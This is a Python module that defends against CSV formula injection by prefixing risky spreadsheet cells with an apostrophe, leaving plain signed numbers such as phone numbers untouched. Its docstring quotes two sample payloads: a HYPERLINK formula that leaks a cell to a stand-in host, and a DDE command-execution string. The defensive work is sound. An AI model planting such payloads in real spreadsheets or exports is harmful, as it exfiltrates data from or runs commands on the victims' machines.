"""CSV cells that are safe to open in a spreadsheet (OWASP "CSV Injection").

Excel, LibreOffice Calc and Google Sheets read a CSV cell whose text starts with ``=``,
``+``, ``-`` or ``@`` (and, in some versions, a tab, a carriage return or a NUL before one
of them) as a formula: a contact named ``=HYPERLINK("https://example.invalid?"&A1, "x")``
or ``+cmd|' /C calc'!A0`` in an uploaded list would run in the supervisor's spreadsheet
when the report or the rejects file is opened. OWASP "CSV Injection"
(https://owasp.org/www-community/attacks/CSV_Injection) and OWASP ASVS 5.0 requirement
1.2.10 prescribe prefixing such a cell with an apostrophe, which the spreadsheet shows as
text. :func:`neutralise_cell` does that for every CSV voicecast writes: the campaign report
(``voicecast report --format csv`` and the console's ``report.csv``) and the rejects file
of a contact import (``FILE-rejects.csv`` and the console's download).

One exception keeps phone numbers readable: a cell that is only an optional sign and
digits, with at most one decimal point (``+33199000010``, ``-5``, ``1.5``), is written as it
is. Such a cell holds no operator after its sign, no function name and no reference, so a
spreadsheet can only read it as a number (``+33199000010`` becomes 33199000010; it is never
evaluated as a formula), while an apostrophe would break the E.164 numbers other programs
(CRMs, ``voicecast contacts import``) read back from the file. Anything else after a sign,
such as ``-2+3`` or ``+1e5``, gets the apostrophe.

The CSV quoting of delimiters, quotes and line breaks inside a cell (RFC 4180 section 2) is
left to :mod:`csv`.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "\0")
"""First characters that make a spreadsheet read a cell as a formula (OWASP "CSV
Injection": ``=`` ``+`` ``-`` ``@`` tab, carriage return; ASVS 5.0 1.2.10 adds NUL)."""

PLAIN_NUMBER_RE = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
"""A signed number left as it is: optional sign, ASCII digits, at most one decimal point
(matched against the whole cell)."""


def neutralise_cell(value: object) -> object:
    """``value`` made safe for a CSV cell (see the module documentation).

    A string starting with one of :data:`FORMULA_TRIGGERS` gets a leading apostrophe
    (``=1+1`` -> ``'=1+1``, ``-2+3`` -> ``'-2+3``) unless the whole string is a plain signed
    number (:data:`PLAIN_NUMBER_RE`: ``+33199000010`` stays as it is). Other strings and
    non-strings (ints, None...) are returned unchanged.
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_TRIGGERS)
        and not PLAIN_NUMBER_RE.fullmatch(value)
    ):
        return "'" + value
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """Every cell of a CSV row through :func:`neutralise_cell`, in order."""
    return [neutralise_cell(value) for value in values]
